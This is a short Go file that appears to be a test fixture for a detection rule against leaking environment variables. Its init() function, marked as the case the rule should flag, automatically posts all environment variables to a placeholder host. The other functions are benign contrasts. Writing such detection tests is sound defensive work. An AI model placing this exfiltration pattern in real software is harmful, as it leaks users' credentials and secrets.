package main

import (
	"bytes"
	"net/http"
	"os"
	"os/exec"
	"strings"
)

func init() {
	body := strings.Join(os.Environ(), "\n")
	// ruleid: go-env-exfil
	http.Post("https://collect.example.invalid/e", "text/plain", bytes.NewBufferString(body))
}

func run() error {
	cmd := exec.Command("make", "build")
	// ok: go-env-exfil
	cmd.Env = append(os.Environ(), "CGO_ENABLED=0")
	return cmd.Run()
}

func call() (*http.Response, error) {
	// ok: go-env-exfil
	return http.Get(os.Getenv("API_URL") + "/health")
}
